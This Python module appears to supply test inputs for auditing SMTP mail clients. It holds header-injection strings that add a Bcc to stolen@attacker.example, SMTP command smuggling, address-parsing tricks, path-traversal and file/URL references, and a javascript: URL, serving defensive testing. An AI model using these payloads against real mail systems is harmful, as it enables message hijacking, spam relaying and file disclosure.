"""The messages that a program is given: values for every field of the contract, harmless and hostile ones.

Data only. What a sound program does with each is said by its sort (`smtp_audit.facts.client_messages.Sort`).
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from dataclasses import field as default
from typing import Any, Final

from smtp_audit.facts.client_messages import Sort

THERE: Final = "recipient.example"
"""The domain that harmless mail goes to."""

ATTACKER: Final = "attacker.example"
"""The domain that hostile values try to get mail to."""

_STOLEN: Final = f"stolen@{ATTACKER}"
_USER: Final = f"user@{THERE}"
_SMUGGLED: Final = f"MAIL FROM:<{_STOLEN}>\r\nRCPT TO:<{_STOLEN}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx"


@dataclass(frozen=True)
class Case:
    """One message. `value` goes into `field`; `more` are other fields of the message, as JSON values."""

    name: str
    field: str
    sort: Sort
    value: Any = None
    acceptable: tuple[str, ...] = ()
    more: Mapping[str, Any] = default(default_factory=dict)


BREAKS: Final[Mapping[str, str]] = {
    "crlf": "Figures\r\nBcc: " + _STOLEN,
    "lf": "Figures\nBcc: " + _STOLEN,
    "cr": "Figures\rBcc: " + _STOLEN,
    "lf-cr": "Figures\n\rBcc: " + _STOLEN,
    "body": "Figures\r\n\r\nInjected text",
    "lf-body": "Figures\n\nInjected text",
    "crlf-lead": "\r\nBcc: " + _STOLEN + "\r\nX-A: Figures",
    "fold": "Figures\r\n Bcc: " + _STOLEN,
    "fold-empty": "Figures\r\n \r\nBcc: " + _STOLEN,
    "nul-crlf": "Figures\x00\r\nBcc: " + _STOLEN,
    "encoded-word": "=?utf-8?Q?hi=0D=0ABcc:_stolen=40attacker.example?=",
    "encoded-word-lf": "=?utf-8?Q?hi=0ABcc:_stolen=40attacker.example?=",
}
"""What may break out of any header field (CVE-2024-6923 for the last two)."""

MORE_BREAKS: Final[Mapping[str, str]] = {
    "nul": "Figures\x00Bcc: " + _STOLEN,
    "trailing-lf": "Figures\n",
    "trailing-crlf": "Figures\r\n",
    "encoded-word-base64": "=?utf-8?B?aGkNCkJjYzogc3RvbGVuQGF0dGFja2VyLmV4YW1wbGU=?=",
    "line-separator": "Figures\u2028Bcc: " + _STOLEN,
    "paragraph-separator": "Figures\u2029Bcc: " + _STOLEN,
    "next-line": "Figures\u0085Bcc: " + _STOLEN,
    "vertical-tab": "Figures\x0bBcc: " + _STOLEN,
    "form-feed": "Figures\x0cBcc: " + _STOLEN,
    "file-separator": "Figures\x1cBcc: " + _STOLEN,
    "cut-to-octets": "Figures\u560d\u560aBcc: " + _STOLEN,
    "percent": "Figures%0D%0ABcc: " + _STOLEN,
    "backslashes": "Figures\\r\\nBcc: " + _STOLEN,
    "content-type": "Figures\r\nContent-Type: text/html\r\n\r\n<h1>Injected</h1>",
    "second-message": "Figures\r\n.\r\n" + _SMUGGLED + "\r\n.\r\n",
    "long-fold": "x" * 70 + " Bcc: " + _STOLEN + " " + "y" * 900,
}
"""More of it, tried on the subject."""

NAMES: Final[Mapping[str, str]] = {
    "quote": f'Ada" <{_STOLEN}>, "x',
    "second": f"Ada <{_STOLEN}>, Ada",
    "angle": f"Ada <{_STOLEN}>",
    "comment": f"Ada (x) {_STOLEN} (",
    "backslash": 'Ada\\" <' + _STOLEN + ">",
    "encoded-mailbox": "=?utf-8?Q?Ada=22_=3Cstolen=40attacker.example=3E?=",
    "group": f"team: {_STOLEN};",
}
"""What may break out of a display name."""

MALFORMED: Final[Mapping[str, tuple[str, tuple[str, ...]]]] = {
    "crlf-command": (f"{_USER}>\r\nRCPT TO:<{_STOLEN}", (_USER,)),
    "crlf-header": (f"{_USER}\r\nBcc: {_STOLEN}", (_USER,)),
    "lf-header": (f"{_USER}\nBcc: {_STOLEN}", (_USER,)),
    "cr-header": (f"{_USER}\rBcc: {_STOLEN}", (_USER,)),
    "crlf-body": (f"{_USER}\r\n\r\nInjected text", (_USER,)),
    "crlf-data": (f"{_USER}>\r\nDATA\r\nSubject: x\r\n\r\nx\r\n.\r\n{_SMUGGLED}\r\n.\r\n", (_USER,)),
    "trailing-crlf": (f"{_USER}\r\n", (_USER,)),
    "crlf-in-local": (f"us\r\ner@{THERE}", (_USER,)),
    "nul": (f"user\x00@{THERE}", (_USER,)),
    "nul-cuts": (f"{_USER}\x00.{ATTACKER}", (_USER,)),
    "list": (f"{_USER}, {_STOLEN}", (_USER,)),
    "list-semicolon": (f"{_USER}; {_STOLEN}", (_USER,)),
    "list-space": (f"{_USER} {_STOLEN}", (_USER,)),
    "trailing-comma": (f"{_USER},", (_USER,)),
    "group": (f"team: {_USER}, {_STOLEN};", (_USER,)),
    "parameters": (f"{_USER}> NOTIFY=SUCCESS ORCPT=rfc822;{_STOLEN}", (_USER,)),
    "angle-twice": (f"<{_USER}> <{_STOLEN}>", (_USER,)),
    "angle-inside": (f"<{_USER}<{_STOLEN}>>", (_USER,)),
    "two-ats": (f"user@{ATTACKER}@{THERE}", ()),
    "no-at": ("user", ()),
    "no-local": (f"@{THERE}", ()),
    "no-domain": ("user@", ()),
    "empty": ("", ()),
    "blank": ("   ", ()),
    "space": (f"us er@{THERE}", ()),
    "dot-first": (f".user@{THERE}", ()),
    "dot-last": (f"user.@{THERE}", ()),
    "dots": (f"us..er@{THERE}", ()),
    "dots-in-domain": ("user@recipient..example", ()),
    "hyphen-first": ("user@-recipient.example", ()),
    "long-local": ("u" * 65 + f"@{THERE}", ()),
    "long-label": (f"user@{'r' * 64}.example", ()),
    "long-domain": ("user@" + "recipient." * 26 + "example", ()),
    "route": (f"@{ATTACKER}:{_USER}", (_USER,)),
    "open-quote": (f'"user@{THERE}', (_USER,)),
    "quote-inside": (f'us"{_STOLEN}"er@{THERE}', ()),
    "wide-at": (f"user\uff20{THERE}", (_USER,)),
    "wide-dot": ("user@recipient\u3002example", (_USER,)),
    "line-separator": (f"{_USER}\u2028Bcc: {_STOLEN}", (_USER,)),
    "cut-to-octets": (f"{_USER}\u560d\u560aRCPT TO:<{_STOLEN}>", (_USER,)),
    "right-to-left": (f"us\u202eer@{THERE}", ()),
    "encoded-word": (f"=?utf-8?Q?user=40{THERE}=0D=0ABcc:_stolen=40{ATTACKER}?=", (_USER,)),
}
"""No addresses, each with what a generous program may take it for."""

EITHER: Final[Mapping[str, tuple[str, ...]]] = {
    "quoted-trick": (f'"r@{THERE} evil@x"@{ATTACKER}',),
    "quoted-trick-comma": (f'"{_STOLEN},"@{THERE}',),
    "quoted-trick-angle": (f'"<{_STOLEN}>"@{THERE}',),
    "quoted-space": (f'"first last"@{THERE}',),
    "quoted-at": (f'"first@last"@{THERE}',),
    "percent-hack": (f"stolen%{ATTACKER}@{THERE}",),
    "bang": (f"{ATTACKER}!stolen@{THERE}",),
    "encoded-local": (f"=?x?q?stolen=40{ATTACKER}=3e=00?=@{THERE}",),
    "comment": (f"user(comment)@{THERE}", _USER),
    "comment-address": (f"{_USER} ({_STOLEN})", _USER),
    "angle": (f"<{_USER}>", _USER),
    "display-name": (f"Ada <{_USER}>", _USER),
    "display-name-address": (f'"{_STOLEN}" <{_USER}>', _USER),
    "display-name-comma": (f'"{_STOLEN}, x" <{_USER}>', _USER),
    "literal": ("user@[192.0.2.25]",),
    "idn": ("user@b\u00fccher.example", "user@xn--bcher-kva.example"),
    "idn-fold": ("user@stra\u00dfe.example", "user@xn--strae-oqa.example"),
    "utf8-local": (f"j\u00f6rg@{THERE}",),
    "punctuation": (f"a/b=c#d$e&f*g?h^i`j{{k|l}}m~n@{THERE}",),
}
"""Addresses in forms that a program may refuse, each with other spellings of the same mailbox."""

VALID: Final[Mapping[str, str]] = {
    "plus": f"user+tag@{THERE}",
    "apostrophe": f"o'brien@{THERE}",
    "underscore-hyphen": f"first_last-x@{THERE}",
    "dots": f"a.b.c.d@{THERE}",
    "digits": f"0123456@{THERE}",
    "one-letter": f"x@{THERE}",
    "long-local": "u" * 64 + f"@{THERE}",
    "many-labels": f"user@a.b.c.d.{THERE}",
    "new-top-level": "user@recipient.photography",
    "idn-ascii": "user@xn--bcher-kva.example",
    "digit-label": "user@1.2.recipient.example",
    "upper-case": "User.Name@Recipient.Example",
}
"""Unusual and right."""

DISPOSABLE: Final = (
    "anna@tempmail.com",
    "anna@10minutemail.com",
    "anna@guerrillamail.com",
    "anna@mx1.tempmail.com",
    "anna@eu.10minutemail.com",
    "anna@mail.guerrillamail.com",
    "Anna@GuerrillaMail.COM",
)
LOOK_ALIKES: Final = (
    "anna@attempmail.example",
    "tempmail@recipient.example",
    "anna@guerrillamail-fans.example",
    "anna@10minutemailing.example",
    "guerrillamail.com@recipient.example",
)

MARK: Final = "MARK-4711"
"""Stands for a secret token, a new one each time."""

_LINK: Final = f"https://client-test.example/verify?token={MARK}&lang=en"
LINKED_HTML: Final = f'<p>Please <a href="{_LINK.replace("&", "&amp;")}">confirm your address</a>.</p>'
LINKED_TEXT: Final = f"Please confirm your address: {_LINK}"

SAMPLES: Final[Mapping[str, Any]] = {
    "cc": f"copy@{THERE}",
    "reply_to": f"answers@{THERE}",
    "subject": "Figures of the third quarter",
    "options.fromName": "Ada Example",
    "options.unsubscribeUrl": "https://client-test.example/unsubscribe/4711",
    "options.priority": "high",
    "options.headers": "spring-4711",
    "data.alertType": "New device harmless-4711",
    "html": "<p>Harmless-4711 figures.</p>",
    "text": "Harmless-4711 figures.",
}
"""A harmless value for each field; whether it shows on the wire says whether the program uses the field."""

ALERT: Final[Mapping[str, Any]] = {"template": "security-alert", "subject": None, "html": None, "text": None}
"""A security alert as the standard has it; its data are added."""

ALERT_DATA: Final[Mapping[str, str]] = {
    "userName": "Ada",
    "details": "A login from a new device.",
    "timestamp": "2026-01-31T12:00:00Z",
}

CUSTOM_SAMPLE: Final = "harmless-4711"
CUSTOM_HEADER: Final = "X-Campaign"
"""The header that `options.headers` is tried with."""

NAME: Final = "CASE-NAME"
"""Stands for the name of the case, so that who fetched what can be told."""

LEFT_OUT: Final = ("host", "user", "password")
"""Settings without which a program does not start (CLIENT-1)."""


def first_cases(custom: Iterable[str]) -> Iterator[Case]:
    """The controls. `custom` are fields that the configuration maps beyond the contract's own."""
    yield Case("control", "", Sort.CONTROL)
    for name, value in SAMPLES.items():
        yield Case(f"control-{name}", name, Sort.CONTROL, value, acceptable=(value,) if name == "cc" else ())
    yield Case("control-options.priority-number", "options.priority", Sort.CONTROL, "1")
    for name in custom:
        yield Case(f"control-{name}", name, Sort.CONTROL, CUSTOM_SAMPLE)


def field_cases(custom: Iterable[str]) -> Iterator[Case]:
    """Hostile values for each field but the recipient's; only fields that the program uses are tried."""
    for name, value in (*BREAKS.items(), *MORE_BREAKS.items()):
        yield _hostile("subject", name, value)
    for name, value in (*BREAKS.items(), *NAMES.items()):
        yield _hostile("options.fromName", name, value)
    for where in ("options.priority", "options.headers", "data.alertType", *custom):
        for name, value in BREAKS.items():
            yield _hostile(where, name, value)
    yield _hostile("options.headers", "name-crlf", {f"X-A\r\nBcc: {_STOLEN}\r\n{CUSTOM_HEADER}": "v"})
    yield _hostile("options.headers", "name-lf", {f"X-A\nBcc: {_STOLEN}\n{CUSTOM_HEADER}": "v"})
    yield _hostile("options.headers", "name-colon", {f"X-A: 1\r\nBcc: {_STOLEN}": "v"})
    for name, value in BREAKS.items():
        url = value.replace("Figures", "https://client-test.example/u")
        yield _hostile("options.unsubscribeUrl", name, url)
    angle = f"https://client-test.example/u>, <mailto:{_STOLEN}"
    yield _hostile("options.unsubscribeUrl", "angle", angle)
    yield _hostile("options.unsubscribeUrl", "script", "javascript:alert(1)")
    for where in ("cc", "reply_to"):
        for name in _COPIED:
            value, acceptable = MALFORMED[name]
            yield _hostile(where, name, value, acceptable)
        for name in ("quoted-trick", "quoted-trick-comma", "display-name-address"):
            yield _hostile(where, name, EITHER[name][0], EITHER[name])
    for where in ("html", "text"):
        for name, line in (("dot", "\r\n.\r\n"), ("dot-lf", "\n.\n"), ("dot-cr", "\r.\r"), ("dot-mixed", "\n.\r\n")):
            yield _hostile(where, name, f"Figures{line}{_SMUGGLED}{line}")
        yield _hostile(where, "headers", f"Bcc: {_STOLEN}\r\n\r\nFigures\r\n..\r\n.")


_COPIED: Final = (
    *("crlf-command", "crlf-header", "lf-header", "cr-header", "crlf-body", "crlf-data", "nul-cuts", "list", "group"),
    *("parameters", "angle-twice", "two-ats", "cut-to-octets", "encoded-word"),
)


def recipient_cases() -> Iterator[Case]:
    """Addresses in `to`, wrong, odd and right."""
    for name, (value, acceptable) in MALFORMED.items():
        yield Case(f"to-{name}", "to", Sort.MALFORMED, value, acceptable)
    yield Case("to-none", "to", Sort.MALFORMED, [])
    for name, spellings in EITHER.items():
        yield Case(f"to-{name}", "to", Sort.EITHER, spellings[0], spellings)
    for name, value in VALID.items():
        yield Case(f"to-valid-{name}", "to", Sort.VALID, value, (value,))
    for value in DISPOSABLE:
        yield Case(f"to-{value}", "to", Sort.DISPOSABLE, value)
    for value in LOOK_ALIKES:
        yield Case(f"to-{value}", "to", Sort.LOOK_ALIKE, value, (value,))


def content_cases() -> Iterator[Case]:
    """Subjects and bodies that are missing, and lines that grow long."""
    for name, value in (("missing", None), ("empty", ""), ("blank", "  \t "), ("long", "x" * 999)):
        yield Case(f"subject-{name}", "subject", Sort.SUBJECT, value)
    for name, nothing in (("missing", None), ("empty", ""), ("blank", " \r\n\t ")):
        yield Case(f"content-{name}", "html", Sort.CONTENT, nothing, more={"text": nothing})
    words, word = "figure " * 142, "x" * 998
    yield Case("long-subject", "subject", Sort.LONG, words[:998].strip())
    yield Case("long-subject-word", "subject", Sort.LONG, word)
    yield Case("long-subject-umlauts", "subject", Sort.LONG, "\u00fc" * 400)
    yield Case("long-html", "html", Sort.LONG, f"<p>{'figures ' * 700}</p>")
    yield Case("long-html-word", "html", Sort.LONG, f"<p>{'x' * 5000}</p>")
    yield Case("long-text", "text", Sort.LONG, "x" * 5000)
    yield Case("long-name", "options.fromName", Sort.LONG, "Ada " * 280)
    yield Case("long-url", "options.unsubscribeUrl", Sort.LONG, "https://client-test.example/u/" + "x" * 1500)
    many = [f"recipient-{number}@{THERE}" for number in range(60)]
    yield Case("long-to", "to", Sort.LONG, many, tuple(many))
    yield Case("text-both", "html", Sort.TEXT, LINKED_HTML, more={"text": LINKED_TEXT})
    yield Case("text-missing", "html", Sort.TEXT, LINKED_HTML, more={"text": None})


def reference_cases(files: str = "/nowhere", urls: str = "http://192.0.2.99") -> Iterator[Case]:
    """Content that names files in a folder and addresses of a server, each by the name of its case."""
    file, url = f"{files}/{NAME}", f"{urls}/{NAME}"
    shapes: tuple[tuple[str, str, Any], ...] = (
        ("html-path", "html", {"path": file}),
        ("html-href", "html", {"href": url}),
        ("text-path", "text", {"path": file}),
        ("html-image-file", "html", f'<p>Figures <img src="file://{file}"><img src="{file}"></p>'),
        ("html-image-url", "html", f'<p>Figures <img src="{url}"><link rel="stylesheet" href="{url}"></p>'),
        ("html-include", "html", f'<p>Figures</p><!--#include file="{file}"-->{{% include "{file}" %}}'),
        ("attachments-path", "attachments", [{"filename": "figures.txt", "path": file}]),
        ("attachments-href", "attachments", [{"filename": "figures.txt", "href": url}]),
        ("options-attachments-path", "options", {"attachments": [{"filename": "figures.txt", "path": file}]}),
        ("options-attachments-href", "options", {"attachments": [{"filename": "figures.txt", "path": url}]}),
        ("template-path", "template", file),
        ("template-up", "template", "../../../../../../../.." + file),
    )
    for name, where, value in shapes:
        yield Case(f"reference-{name}", where, Sort.REFERENCE, _named(value, f"reference-{name}"))


def _named(value: Any, name: str) -> Any:
    """The value with the name of its case put in, however deep."""
    if isinstance(value, str):
        return value.replace(NAME, name)
    if isinstance(value, list):
        return [_named(each, name) for each in value]
    return {key: _named(each, name) for key, each in value.items()}


def _hostile(where: str, name: str, value: Any, acceptable: tuple[str, ...] = ()) -> Case:
    return Case(f"{where}-{name}", where, Sort.HOSTILE, value, acceptable)
